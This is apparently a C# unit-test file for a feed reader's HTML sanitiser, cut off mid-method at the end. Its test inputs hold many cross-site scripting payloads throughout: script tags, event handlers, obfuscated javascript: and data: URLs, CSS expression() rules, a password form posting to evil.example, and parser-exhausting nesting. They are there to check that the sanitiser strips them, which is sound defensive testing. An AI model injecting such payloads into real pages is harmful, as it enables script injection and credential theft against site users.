using System.Text;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using FeedHub.Core.Processing;

namespace FeedHub.Core.Tests.Processing;

public sealed class HtmlCleanerTests
{
    private static readonly HtmlCleaner Cleaner = new();
    private static readonly Uri Base = new("https://journal.example/dir/page.html");

    private static string Clean(string html, Uri? baseUri = null) => Cleaner.Clean(html, baseUri ?? Base);

    /// <summary>The cleaned output parsed back, to inspect elements and attributes rather than substrings.</summary>
    private static IDocument Parsed(string cleaned) => new HtmlParser().ParseDocument("<!DOCTYPE html><body>" + cleaned);

    private static IEnumerable<IElement> All(string cleaned) => Parsed(cleaned).Body!.QuerySelectorAll("*");

    // ------------------------------------------------------------------------------------------------
    // What must not survive
    // ------------------------------------------------------------------------------------------------

    [Theory]
    [InlineData("<p>avant<script>alert('x')</script>après</p>")]
    [InlineData("<p>avant<SCRIPT type=\"text/javascript\">alert('x')</SCRIPT>après</p>")]
    [InlineData("<p>avant<script src=\"https://evil.example/alert.js\"></script>après</p>")]
    [InlineData("<p>avant<noscript><img src=x onerror=alert('x')></noscript>après</p>")]
    [InlineData("<p>avant<template><script>alert('x')</script></template>après</p>")]
    [InlineData("<p>avant<!--[if IE]><script>alert('x')</script><![endif]-->après</p>")]
    public void RemovesScriptsWithTheirContent(string html)
    {
        var cleaned = Clean(html);

        Assert.Equal("<p>avantaprès</p>", cleaned);
    }

    [Theory]
    [InlineData("<p onclick=\"alert('x')\">texte</p>", "<p>texte</p>")]
    [InlineData("<img src=\"/i.png\" alt=\"i\" onerror=\"alert('x')\">", "<img src=\"https://journal.example/i.png\" alt=\"i\">")]
    [InlineData("<a href=\"/a\" onmouseover=\"alert('x')\" ONFOCUS=\"alert('x')\">lien</a>", "<a href=\"https://journal.example/a\" rel=\"noopener noreferrer\">lien</a>")]
    [InlineData("<div onload=\"alert('x')\" onanimationstart=\"alert('x')\">d</div>", "<div>d</div>")]
    public void RemovesEventHandlerAttributes(string html, string expected)
    {
        var cleaned = Clean(html);

        Assert.Equal(expected, cleaned);
        Assert.DoesNotContain(All(cleaned).SelectMany(e => e.Attributes), a => a.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase));
    }

    [Theory]
    [InlineData("<a href=\"javascript:alert('x')\">lien</a>")]
    [InlineData("<a href=\"JaVaScRiPt:alert('x')\">lien</a>")]
    [InlineData("<a href=\" javascript:alert('x')\">lien</a>")]
    [InlineData("<a href=\"jav&#x09;ascript:alert('x')\">lien</a>")]
    [InlineData("<a href=\"&#106;avascript:alert('x')\">lien</a>")]
    [InlineData("<a href=\"vbscript:msgbox('x')\">lien</a>")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">lien</a>")]
    public void RemovesScriptAndDataUrlsFromLinks(string html)
    {
        var cleaned = Clean(html);

        var anchor = Assert.Single(All(cleaned));
        Assert.Equal("A", anchor.NodeName);
        Assert.False(anchor.HasAttribute("href"), cleaned);
        Assert.Equal("lien", anchor.TextContent);
    }

    [Theory]
    [InlineData("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"inline\">")]
    [InlineData("<img src=\"javascript:alert('x')\" alt=\"inline\">")]
    public void RemovesScriptAndDataUrlsFromImages(string html)
    {
        var cleaned = Clean(html);

        var image = Assert.Single(All(cleaned));
        Assert.False(image.HasAttribute("src"), cleaned);
        Assert.Equal("inline", image.GetAttribute("alt"));
    }

    [Theory]
    [InlineData("<iframe src=\"https://video.example/embed/1\">cadre</iframe>")]
    [InlineData("<frameset><frame src=\"https://evil.example/\"></frameset>")]
    [InlineData("<object data=\"movie.swf\"><param name=\"movie\" value=\"movie.swf\"><embed src=\"movie.swf\"></object>")]
    [InlineData("<embed src=\"movie.swf\" type=\"application/x-shockwave-flash\">")]
    [InlineData("<applet code=\"Evil.class\"></applet>")]
    [InlineData("<canvas>toile</canvas>")]
    public void RemovesEmbeddedContent(string html)
    {
        var cleaned = Clean("<p>début</p>" + html + "<p>fin</p>");

        Assert.Equal("<p>début</p><p>fin</p>", cleaned);
    }

    [Theory]
    [InlineData("<object data=\"movie.swf\" classid=\"clsid:D27CDB6E\"><param name=\"movie\" value=\"movie.swf\"><embed src=\"movie.swf\"><b>repli</b></object>")]
    [InlineData("<applet code=\"Evil.class\"><param name=\"x\" value=\"y\"><b>repli</b></applet>")]
    public void KeepsTheFallbackContentOfObjectsButNotThePlugin(string html)
    {
        // Browsers show an object's children when the plugin is missing: that fallback is ordinary (sanitised) HTML.
        var cleaned = Clean("<p>début</p>" + html + "<p>fin</p>");

        Assert.Equal("<p>début</p><b>repli</b><p>fin</p>", cleaned);
    }

    [Theory]
    [InlineData("<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\" type=\"password\"><button>Envoyer</button></form>")]
    [InlineData("<input type=\"text\" value=\"valeur\">")]
    [InlineData("<textarea>zone</textarea>")]
    [InlineData("<select><option>choix</option></select>")]
    [InlineData("<button type=\"submit\">bouton</button>")]
    public void RemovesFormsAndInputs(string html)
    {
        var cleaned = Clean("<p>début</p>" + html + "<p>fin</p>");

        Assert.Equal("<p>début</p><p>fin</p>", cleaned);
    }

    [Theory]
    [InlineData("<style>p { background: url(https://tracker.example/p.gif) }</style><p>texte</p>", "<p>texte</p>")]
    [InlineData("<p style=\"position:fixed;top:0;left:0;width:100%;height:100%\">texte</p>", "<p style=\"width: 100%; height: 100%\">texte</p>")]
    [InlineData("<link rel=\"stylesheet\" href=\"https://evil.example/s.css\"><p>texte</p>", "<p>texte</p>")]
    [InlineData("<p class=\"big\" id=\"top\" data-track=\"1\">texte</p>", "<p>texte</p>")]
    public void RemovesStyleSheetsPositioningClassesAndIds(string html, string expected)
    {
        Assert.Equal(expected, Clean(html));
    }

    [Theory]
    [InlineData("<svg width=\"10\" height=\"10\"><script>alert('x')</script><text>dessin</text></svg>")]
    [InlineData("<svg><a xlink:href=\"javascript:alert('x')\"><circle r=\"5\"/></a></svg>")]
    [InlineData("<math><mi xlink:href=\"javascript:alert('x')\">x</mi></math>")]
    public void RemovesSvgAndMathWithTheirContent(string html)
    {
        var cleaned = Clean("<p>début</p>" + html + "<p>fin</p>");

        Assert.Equal("<p>début</p><p>fin</p>", cleaned);
    }

    [Fact]
    public void RemovesBaseAndItDoesNotRedirectRelativeUrls()
    {
        var cleaned = Clean("<base href=\"https://evil.example/\"><a href=\"/article\">lien</a>");

        Assert.Equal("<a href=\"https://journal.example/article\" rel=\"noopener noreferrer\">lien</a>", cleaned);
    }

    [Theory]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">")]
    [InlineData("<meta charset=\"koi8-r\">")]
    [InlineData("<title>titre</title>")]
    [InlineData("<head><title>titre</title></head>")]
    public void RemovesMetaAndHeadElements(string html)
    {
        Assert.Equal("<p>texte</p>", Clean(html + "<p>texte</p>"));
    }

    [Fact]
    public void RemovesComments()
    {
        Assert.Equal("<p>texte</p>", Clean("<!-- secret --><p>texte<!-- encore --></p>"));
    }

    [Theory]
    [InlineData("<p>a&#1;b</p>", "<p>ab</p>")]
    [InlineData("<p>a&#x1F;b</p>", "<p>ab</p>")]
    [InlineData("<p>a&#xFFFE;b&#xFFFF;c</p>", "<p>abc</p>")]
    [InlineData("<p>a\u0001b\u0008c\uFFFEd</p>", "<p>abcd</p>")]
    [InlineData("<p title=\"t&#2;t\">x</p>", "<p title=\"tt\">x</p>")]
    public void RemovesCharactersXmlCannotCarryEvenWhenWrittenAsReferences(string html, string expected)
    {
        Assert.Equal(expected, Clean(html));
    }

    // ------------------------------------------------------------------------------------------------
    // URLs
    // ------------------------------------------------------------------------------------------------

    [Theory]
    [InlineData("<a href=\"/racine\">x</a>", "href", "https://journal.example/racine")]
    [InlineData("<a href=\"voisin.html\">x</a>", "href", "https://journal.example/dir/voisin.html")]
    [InlineData("<a href=\"../haut\">x</a>", "href", "https://journal.example/haut")]
    [InlineData("<a href=\"//cdn.example/p\">x</a>", "href", "https://cdn.example/p")]
    [InlineData("<a href=\"#note-1\">x</a>", "href", "https://journal.example/dir/page.html#note-1")]
    [InlineData("<a href=\"?page=2\">x</a>", "href", "https://journal.example/dir/page.html?page=2")]
    [InlineData("<a href=\"https://autre.example/a\">x</a>", "href", "https://autre.example/a")]
    [InlineData("<a href=\"mailto:redaction@journal.example\">x</a>", "href", "mailto:redaction@journal.example")]
    [InlineData("<img src=\"images/photo.jpg\" alt=\"\">", "src", "https://journal.example/dir/images/photo.jpg")]
    [InlineData("<img srcset=\"/a.jpg 1x, /b.jpg 2x\" alt=\"\">", "srcset", "https://journal.example/a.jpg 1x, https://journal.example/b.jpg 2x")]
    [InlineData("<video poster=\"/p.jpg\" src=\"/v.mp4\"></video>", "poster", "https://journal.example/p.jpg")]
    [InlineData("<blockquote cite=\"/source\">c</blockquote>", "cite", "https://journal.example/source")]
    public void MakesRelativeUrlsAbsoluteAgainstTheBase(string html, string attribute, string expected)
    {
        var element = All(Clean(html)).First();

        Assert.Equal(expected, element.GetAttribute(attribute));
    }

    [Theory]
    [InlineData(null)]
    [InlineData("file:///var/feeds/local.xml")]
    public void KeepsRelativeUrlsRelativeWithoutAnHttpBase(string? baseUrl)
    {
        var cleaned = Cleaner.Clean("<a href=\"/article?utm_source=rss\">x</a>", baseUrl is null ? null : new Uri(baseUrl));

        Assert.Equal("<a href=\"/article\" rel=\"noopener noreferrer\">x</a>", cleaned);
    }

    [Theory]
    [InlineData("https://journal.example/a?utm_source=rss&utm_medium=feed&id=3#suite", "https://journal.example/a?id=3#suite")]
    [InlineData("https://journal.example/a?fbclid=IwAR0abc", "https://journal.example/a")]
    [InlineData("/a?page=2&utm_campaign=x", "https://journal.example/a?page=2")]
    public void StripsTrackingParametersFromLinks(string href, string expected)
    {
        var anchor = All(Clean($"<a href=\"{href}\">x</a>")).Single();

        Assert.Equal(expected, anchor.GetAttribute("href"));
    }

    [Fact]
    public void StripsTrackingParametersFromImageSources()
    {
        var image = All(Clean("<img src=\"/photo.jpg?utm_source=rss&w=640\" alt=\"photo\">")).Single();

        Assert.Equal("https://journal.example/photo.jpg?w=640", image.GetAttribute("src"));
    }

    [Fact]
    public void MakesLinksOpenWithoutReferrer()
    {
        var anchor = All(Clean("<a href=\"https://autre.example/\" target=\"_blank\" rel=\"opener\">x</a>")).Single();

        Assert.Equal("noopener noreferrer", anchor.GetAttribute("rel"));
        Assert.False(anchor.HasAttribute("target"));
    }

    // ------------------------------------------------------------------------------------------------
    // Tracking pixels
    // ------------------------------------------------------------------------------------------------

    [Theory]
    [InlineData("<img src=\"https://cdn.example/p.gif\" width=\"1\" height=\"1\">")]
    [InlineData("<img src=\"https://cdn.example/p.gif\" width=\"1px\" height=\"1px\">")]
    [InlineData("<img src=\"https://cdn.example/p.gif\" width=\"0\" height=\"0\">")]
    [InlineData("<img src=\"https://cdn.example/p.gif\" width=1 height=1 alt=\"\">")]
    [InlineData("<img src=\"https://feeds.feedburner.com/~r/journal/~4/abc\">")]
    [InlineData("<img src=\"https://pixel.wp.com/b.gif?host=journal.example\" alt=\"\">")]
    [InlineData("<img src=\"https://stats.wordpress.com/b.gif\">")]
    [InlineData("<img src=\"https://www.google-analytics.com/collect?v=1\">")]
    [InlineData("<img src=\"https://sb.scorecardresearch.com/p?c1=2\">")]
    [InlineData("<img src=\"https://ad.doubleclick.net/ad/x\">")]
    public void RemovesTrackingPixels(string pixel)
    {
        Assert.Equal("<p>texte</p>", Clean("<p>texte" + pixel + "</p>"));
    }

    [Theory]
    [InlineData("<img src=\"https://cdn.example/photo.jpg\" alt=\"Une photo\">")]
    [InlineData("<img src=\"https://cdn.example/barre.png\" width=\"1\" height=\"300\">")]
    [InlineData("<img src=\"https://cdn.example/icone.png\" width=\"16\" height=\"16\">")]
    public void KeepsOrdinaryImages(string image)
    {
        var cleaned = Clean(image);

        Assert.Single(All(cleaned), e => e.NodeName == "IMG");
    }

    // ------------------------------------------------------------------------------------------------
    // What must survive
    // ------------------------------------------------------------------------------------------------

    [Theory]
    [InlineData("<p>Un <strong>paragraphe</strong> avec <em>emphase</em> et <code>code</code>.</p>")]
    [InlineData("<ul><li>un</li><li>deux</li></ul><ol start=\"3\"><li>trois</li></ol>")]
    [InlineData("<dl><dt>terme</dt><dd>définition</dd></dl>")]
    [InlineData("<table><caption>Résultats</caption><thead><tr><th scope=\"col\">Parti</th></tr></thead><tbody><tr><td colspan=\"2\">12 %</td></tr></tbody></table>")]
    [InlineData("<blockquote><p>Citation</p></blockquote>")]
    [InlineData("<h2>Titre</h2><p>Texte<br>suite</p><hr><pre>  espacé  </pre>")]
    [InlineData("<figure><img src=\"https://cdn.example/photo.jpg\" alt=\"Photo\" width=\"640\" height=\"480\"><figcaption>Légende</figcaption></figure>")]
    [InlineData("<p><abbr title=\"Organisation des Nations unies\">ONU</abbr> <time datetime=\"2026-11-26\">jeudi</time></p>")]
    public void KeepsOrdinaryMarkup(string html)
    {
        Assert.Equal(html, Clean(html));
    }

    [Fact]
    public void KeepsLinkHrefAndImageSourceAndAlt()
    {
        var cleaned = Clean("<p><a href=\"https://journal.example/a\" title=\"Lire\">Lire</a> <img src=\"https://cdn.example/p.jpg\" alt=\"Photo du jour\"></p>");

        Assert.Equal("<p><a href=\"https://journal.example/a\" title=\"Lire\" rel=\"noopener noreferrer\">Lire</a> <img src=\"https://cdn.example/p.jpg\" alt=\"Photo du jour\"></p>", cleaned);
    }

    [Theory]
    [InlineData("<p>L’été « chaud » à Paris — ça ira, Noël et cœur.</p>", "<p>L’été « chaud » à Paris — ça ira, Noël et cœur.</p>")]
    [InlineData("<p>L&rsquo;&eacute;t&eacute; &laquo;&nbsp;chaud&nbsp;&raquo; &agrave; Paris &mdash; &ccedil;a ira, No&euml;l et c&oelig;ur.</p>", "<p>L’été «&nbsp;chaud&nbsp;» à Paris — ça ira, Noël et cœur.</p>")]
    [InlineData("<p>5 &lt; 6 &amp;&amp; 7 &gt; 3</p>", "<p>5 &lt; 6 &amp;&amp; 7 &gt; 3</p>")]
    [InlineData("<p>Émoji 🇫🇷 et 𝔘𝔫𝔦𝔠𝔬𝔡𝔢</p>", "<p>Émoji 🇫🇷 et 𝔘𝔫𝔦𝔠𝔬𝔡𝔢</p>")]
    public void KeepsFrenchTextAndEntities(string html, string expected)
    {
        Assert.Equal(expected, Clean(html));
    }

    [Theory]
    [InlineData("")]
    [InlineData("   ")]
    [InlineData("\n\t")]
    public void ReturnsEmptyForBlankInput(string html)
    {
        Assert.Equal(string.Empty, Clean(html));
    }

    [Fact]
    public void SurvivesDeepNesting()
    {
        const int depth = 150;
        var html = string.Concat(Enumerable.Repeat("<div>", depth)) + "profond" + string.Concat(Enumerable.Repeat("</div>", depth));

        var cleaned = Clean(html);

        Assert.Contains("profond", cleaned, StringComparison.Ordinal);
        Assert.StartsWith("<div><div>", cleaned, StringComparison.Ordinal);
        Assert.Equal(depth, Parsed(cleaned).Body!.QuerySelectorAll("div").Length);
    }

    [Fact]
    public void DegradesNestingDeeperThanTheBudgetToItsText()
    {
        const int depth = 512;
        var html = string.Concat(Enumerable.Repeat("<div>", depth)) + "profond" + string.Concat(Enumerable.Repeat("</div>", depth));

        var cleaned = Clean(html);

        Assert.Equal("<p>" + HtmlCleaner.DegradedMarker + "</p><p>profond</p>", cleaned);
    }

    [Fact]
    public void SurvivesPathologicalUnclosedNesting()
    {
        var html = string.Concat(Enumerable.Repeat("<div><span><b>", 1200)) + "fond";

        var cleaned = Clean(html);

        Assert.Contains("fond", cleaned, StringComparison.Ordinal);
        Assert.DoesNotContain("<script", cleaned, StringComparison.OrdinalIgnoreCase);
    }

    [Fact]
    public void GivesTheSameResultFromManyThreads()
    {
        const string html = "<p onclick=\"x()\">Bonjour <a href=\"/a?utm_source=x\">lien</a><img src=\"/p.gif\" width=\"1\" height=\"1\"><script>x</script></p>";
        var expected = Clean(html);

        var results = new string[64];
        Parallel.For(0, results.Length, i => results[i] = Clean(html));

        Assert.All(results, r => Assert.Equal(expected, r));
        Assert.Equal("<p>Bonjour <a href=\"https://journal.example/a\" rel=\"noopener noreferrer\">lien</a></p>", expected);
    }

    [Fact]
    public void CleansARealisticWordPressArticle()
    {
        var html = File.ReadAllText(Path.Combine(AppContext.BaseDirectory, "TestData", "Html", "wordpress-feedburner-article.html"));

        var cleaned = Cleaner.Clean(html, new Uri("https://journal.example/2026/11/26/budget/"));
        var body = Parsed(cleaned).Body!;

        Assert.Empty(body.QuerySelectorAll("script, form, input, button, iframe, style"));
        Assert.DoesNotContain(body.QuerySelectorAll("*").SelectMany(e => e.Attributes), a => a.Name is "class" or "onclick");
        Assert.Equal(["font-family: Georgia"], body.QuerySelectorAll("[style]").Select(e => e.GetAttribute("style")));
        Assert.Equal(["https://journal.example/wp-content/uploads/2026/11/conseil.jpg"], body.QuerySelectorAll("img").Select(i => i.GetAttribute("src")));
        Assert.Equal(
            "https://journal.example/wp-content/uploads/2026/11/conseil.jpg 1024w, https://journal.example/wp-content/uploads/2026/11/conseil-300x200.jpg 300w",
            body.QuerySelector("img")!.GetAttribute("srcset"));
        Assert.Equal(
            ["https://journal.example/2026/11/20/ecoles/", "https://journal.example/2026/11/26/budget/", "https://journal.example"],
            body.QuerySelectorAll("a").Take(3).Select(a => a.GetAttribute("href")));
        Assert.Contains("12,4\u00A0millions d’euros", body.TextContent, StringComparison.Ordinal);
        Assert.Contains("« Un budget de raison », selon la maire.", body.QuerySelector("blockquote")!.TextContent, StringComparison.Ordinal);
        Assert.Equal(["Écoles : 4,1 M€", "Voirie : 2,8 M€"], body.QuerySelectorAll("li").Select(li => li.TextContent));
        Assert.DoesNotContain("evil.example", cleaned, StringComparison.Ordinal);
        Assert.DoesNotContain("Partager", cleaned, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<span style=\"color: red\">t</span>", "color: rgba(255, 0, 0, 1)")]
    [InlineData("<span style=\"font-weight: bold; font-style: italic\">t</span>", "font-weight: bold; font-style: italic")]
    [InlineData("<p style=\"text-align: center\">t</p>", "text-align: center")]
    [InlineData("<p style=\"margin: 0 15px 0 0\">t</p>", "margin: 0 15px 0 0")]
    [InlineData("<td style=\"border: 1px solid #ccc; padding: 4px\">t</td>", "border: 1px solid rgba(204, 204, 204, 1); padding: 4px")]
    [InlineData("<span style=\"background: yellow\">t</span>", "background: rgba(255, 255, 0, 1)")]
    [InlineData("<img src=\"/a.png\" style=\"width: 300px; float: right\">", "width: 300px; float: right")]
    [InlineData("<span style=\"font-family: 'Lucida Console'; font-size: 0.9em\">t</span>", "font-family: \"Lucida Console\"; font-size: 0.9em")]
    [InlineData("<span style=\"TEXT-INDENT: 0.5in\">t</span>", "text-indent: 0.5in")]
    public void KeepsSafePresentationalStyles(string html, string style)
    {
        var element = Assert.Single(All(Clean("<table><tr>" + html + "</tr></table>")), e => e.HasAttribute("style"));

        Assert.Equal(style, element.GetAttribute("style"));
    }

    [Theory]
    [InlineData("display: none")]
    [InlineData("visibility: hidden")]
    [InlineData("opacity: 0")]
    [InlineData("position: absolute; left: -9999px")]
    [InlineData("position: fixed; top: 0; z-index: 99999")]
    [InlineData("font-size: 0")]
    [InlineData("font-size: 1px")]
    [InlineData("height: 0; width: 0")]
    [InlineData("width: 1px; height: 1px")]
    [InlineData("clip: rect(0 0 0 0)")]
    [InlineData("clip-path: inset(50%)")]
    [InlineData("text-indent: -9999px")]
    [InlineData("margin-left: -5000px")]
    [InlineData("margin-top: -200px")]
    [InlineData("margin: 99999em")]
    [InlineData("padding: 99999em")]
    [InlineData("color: transparent")]
    [InlineData("color: rgba(0, 0, 0, 0)")]
    [InlineData("overflow: hidden")]
    [InlineData("transform: scale(0)")]
    [InlineData("letter-spacing: -1em")]
    public void RemovesStylesThatHideContent(string style)
    {
        var cleaned = Clean($"<p style=\"{style}\">caché</p>");

        Assert.Equal("<p>caché</p>", cleaned);
    }

    [Theory]
    [InlineData("background: url(https://tracker.example/p.gif)")]
    [InlineData("background-image: url(https://tracker.example/p.gif)")]
    [InlineData("background-image: url(javascript:alert(1))")]
    [InlineData("background: url(\"java\\73 cript:alert(1))\")")]
    [InlineData("list-style-image: url(https://tracker.example/p.gif)")]
    [InlineData("cursor: url(https://tracker.example/c.cur), auto")]
    [InlineData("width: expression(alert(1))")]
    [InlineData("color: expression(alert(1))")]
    [InlineData("behavior: url(x.htc)")]
    [InlineData("-moz-binding: url(https://evil.example/x.xml#x)")]
    [InlineData("background-image: image-set(\"https://tracker.example/p.gif\" 1x)")]
    [InlineData("background-repeat: repeat-x; background-position: 0 0")]
    public void RemovesStylesThatLoadOrRunSomething(string style)
    {
        var cleaned = Clean($"<p style=\"{style}\">texte</p>");

        Assert.Equal("<p>texte</p>", cleaned);
    }

    [Fact]
    public void KeepsTheHarmlessPartOfAMixedStyle()
    {
        var cleaned = Clean("<p style=\"color: navy; display: none; font-weight: bold; background-image: url(https://tracker.example/p.gif)\">texte</p>");

        Assert.Equal("<p style=\"color: rgba(0, 0, 128, 1); font-weight: bold;\">texte</p>", cleaned);
    }

    [Theory]
    [InlineData("<table bgcolor=\"#eeeeee\" border=\"1\" cellpadding=\"4\" cellspacing=\"0\" frame=\"box\" rules=\"all\"><tr><td nowrap=\"\" axis=\"a\">t</td></tr></table>")]
    [InlineData("<font color=\"red\" face=\"Georgia\" size=\"4\">t</font>")]
    [InlineData("<img src=\"https://journal.example/a.png\" hspace=\"4\" vspace=\"4\" border=\"0\">")]
    [InlineData("<hr noshade=\"\" size=\"1\">")]
    [InlineData("<ul compact=\"\"><li value=\"3\">t</li></ul>")]
    [InlineData("<details open=\"\"><summary>s</summary>t</details>")]
    [InlineData("<meter min=\"0\" max=\"10\" low=\"2\" high=\"8\" optimum=\"5\" value=\"7\">7</meter>")]
    [InlineData("<progress max=\"100\" value=\"30\">30 %</progress>")]
    public void KeepsPresentationalElementsAndAttributes(string html)
    {
        var expected = All(html).Select(e => e.LocalName + string.Concat(e.Attributes.Select(a => " " + a.Name))).ToList();

        var kept = All(Clean(html)).Select(e => e.LocalName + string.Concat(e.Attributes.Select(a => " " + a.Name))).ToList();

        Assert.Equal(expected, kept);
    }

    [Fact]
    public void KeepsImageMapsWithAbsoluteLinks()
    {
        var cleaned = Clean("<img src=\"/plan.png\" usemap=\"#plan\"><map name=\"plan\"><area shape=\"rect\" coords=\"0,0,10,10\" href=\"/salle\" alt=\"Salle\"><area shape=\"circle\" coords=\"5,5,5\" href=\"javascript:alert(1)\" onclick=\"x()\"></map>");

        Assert.Equal(
            "<img src=\"https://journal.example/plan.png\" usemap=\"#plan\"><map name=\"plan\"><area shape=\"rect\" coords=\"0,0,10,10\" href=\"https://journal.example/salle\" alt=\"Salle\" rel=\"noopener noreferrer\"><area shape=\"circle\" coords=\"5,5,5\"></map>",
            cleaned);
    }

    [Theory]
    [InlineData("<span id=\"x\" name=\"y\" class=\"hidden\">t</span>")]
    [InlineData("<span hidden=\"\">t</span>")]
    [InlineData("<span accesskey=\"s\" tabindex=\"1\" autofocus=\"\" contenteditable=\"true\" draggable=\"true\">t</span>")]
    [InlineData("<img name=\"getElementById\" src=\"https://journal.example/a.png\">")]
    [InlineData("<a href=\"https://journal.example/\" target=\"_top\" ping=\"https://tracker.example/\">t</a>")]
    [InlineData("<table background=\"https://tracker.example/p.gif\"><tr><td background=\"https://tracker.example/q.gif\">t</td></tr></table>")]
    [InlineData("<img src=\"https://journal.example/a.png\" lowsrc=\"https://tracker.example/l.gif\" dynsrc=\"https://tracker.example/d.avi\">")]
    [InlineData("<video src=\"https://journal.example/v.mp4\" preload=\"auto\" autoplay=\"\"></video>")]
    [InlineData("<span action=\"https://evil.example/\" method=\"post\" form=\"f\" formaction=\"https://evil.example/\">t</span>")]
    [InlineData("<span style=\"color: red\" data-x=\"1\" balance=\"1\" vrml=\"https://evil.example/w.wrl\">t</span>")]
    [InlineData("<dialog open=\"\">t</dialog>")]
    public void RemovesAttributesThatTakeOverThePageFetchOrDoNothing(string html)
    {
        var names = All(Clean(html)).SelectMany(e => e.Attributes).Select(a => a.Name).ToList();

        Assert.DoesNotContain(names, n => n is "id" or "name" or "class" or "hidden" or "accesskey" or "tabindex" or "autofocus" or "contenteditable"
            or "target" or "ping" or "background" or "lowsrc" or "dynsrc" or "preload" or "autoplay" or "action" or "method" or "form"
            or "formaction" or "data-x" or "balance" or "vrml");
        Assert.DoesNotContain(All(Clean(html)), e => e.LocalName == "dialog");
    }

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=\"x\" onerror=\"alert(1)\">")]
    [InlineData("<body onload=\"alert(1)\">")]
    [InlineData("<a href=\"javascript:alert(1)\">t</a>")]
    [InlineData("<a href=\"JaVaScRiPt:alert(1)\">t</a>")]
    [InlineData("<a href=\"&#106;avascript:alert(1)\">t</a>")]
    [InlineData("<a href=\"vbscript:msgbox(1)\">t</a>")]
    [InlineData("<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">t</a>")]
    [InlineData("<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">")]
    [InlineData("<p style=\"width: expression(alert(1))\">t</p>")]
    [InlineData("<p style=\"background: url(javascript:alert(1))\">t</p>")]
    [InlineData("<base href=\"https://evil.example/\">")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">")]
    [InlineData("<object data=\"https://evil.example/x.swf\"></object>")]
    [InlineData("<embed src=\"https://evil.example/x.swf\">")]
    [InlineData("<iframe src=\"https://evil.example/\"></iframe>")]
    [InlineData("<form action=\"https://evil.example/\"><input name=\"p\"></form>")]
    [InlineData("<svg onload=\"alert(1)\"><circle r=\"1\"/></svg>")]
    [InlineData("<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">x</maction></math>")]
    [InlineData("<style>*{display:none}</style>")]
    [InlineData("<link rel=\"stylesheet\" href=\"https://evil.example/s.css\">")]
    [InlineData("<area href=\"javascript:alert(1)\">")]
    [InlineData("<map name=\"m\" onmouseover=\"alert(1)\"><area href=\"data:text/html,x\"></map>")]
    [InlineData("<font color=\"red\" onmouseover=\"alert(1)\" style=\"behavior: url(x.htc)\">t</font>")]
    public void EverythingDangerousStillGoesWithTheWiderAllowList(string html)
    {
        var cleaned = Clean("<p>avant</p>" + html + "<p>après</p>");

        var document = Parsed(cleaned);
        Assert.Empty(document.Body!.QuerySelectorAll("script, style, link, base, meta, object, embed, iframe, form, input, svg, math, maction"));
        Assert.DoesNotContain(document.Body.QuerySelectorAll("*").SelectMany(e => e.Attributes), a => a.Name.StartsWith("on", StringComparison.Ordinal));
        foreach (var value in document.Body.QuerySelectorAll("*").SelectMany(e => e.Attributes).Select(a => a.Value))
        {
            Assert.DoesNotContain("javascript", value, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("vbscript", value, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("data:", value, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("expression", value, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("url(", value, StringComparison.OrdinalIgnoreCase);
            Assert.DoesNotContain("evil.example", value, StringComparison.OrdinalIgnoreCase);
        }
    }

    [Fact]
    public void DegradesAMegabyteOfDeeplyNestedMarkupToTextInBoundedWork()
    {
        // 1 MB of unclosed <div><span><b>: AngleSharp's work grows with depth × tags (4,000 repetitions took 1.7 s).
        var unit = "<div><span><b>mot ";
        var html = new StringBuilder().Insert(0, unit, (1 << 20) / unit.Length).ToString();

        var cleaned = Clean(html);

        Assert.StartsWith("<p>" + HtmlCleaner.DegradedMarker + "</p><p>mot mot mot", cleaned, StringComparison.Ordinal);
        Assert.DoesNotContain("<div", cleaned, StringComparison.Ordinal);
        Assert.True(cleaned.Length <= 100_200, $"{cleaned.Length} characters");
    }

    [Theory]
    [InlineData("amplification")]
    [InlineData("phantom-end-tags")]
    [InlineData("foreign-title")]
    [InlineData("tables")]
    public void DegradesOtherHostileNestingToText(string shape)
    {
        var html = new StringBuilder();
        switch (shape)
        {
            case "amplification":
                // 1,000 distinct unclosed formatting elements, re-created by the parser in each of 1,000 paragraphs:
                // 20 KB of input became 19 MB of output in 6 s.
                html.Append("<p>");
                for (var i = 0; i < 1000; i++)
                {
                    html.Append("<b title=").Append(i).Append('>');
                }

                html.Insert(html.Length, "</p><p>x", 1000);
                break;
            case "phantom-end-tags":
                // End tags the parser ignores (out of scope) must not be counted as closing anything.
                html.Insert(0, "<b title=x><table></b></table><div><table><td></div>", 3000);
                break;
            case "foreign-title":
                // Inside SVG a <title> is not raw text: what follows is parsed as markup.
                html.Append("<svg><title>").Insert(html.Length, "<div>", 20_000);
                break;
            default:
                html.Insert(0, "<table><td>", 3000);
                break;
        }

        var cleaned = Clean(html.ToString());

        Assert.StartsWith("<p>" + HtmlCleaner.DegradedMarker + "</p>", cleaned, StringComparison.Ordinal);
        Assert.DoesNotContain("<b", cleaned, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<p><font face=\"Arial\">texte", 3000)]
    [InlineData("<li>élément", 5000)]
    [InlineData("<tr><td><b>cellule</td></tr>", 2000)]
    [InlineData("<p>Un paragraphe avec un <a href=\"https://journal.example/x\">lien</a> et du <b>gras</b>.</p>", 5000)]
    [InlineData("<div><div><div><p>Imbriqué</p></div></div></div>", 3000)]
    public void CleansLongButOrdinaryMarkupNormally(string unit, int times)
    {
        var html = "<table><ul>" + new StringBuilder().Insert(0, unit, times) + "</ul></table>";

        var cleaned = Clean(html);

        Assert.DoesNotContain(HtmlCleaner.DegradedMarker, cleaned, StringComparison.Ordinal);
    }

    [Fact]
    public void DegradedTextDropsScriptsAndStaysEscaped()
    {
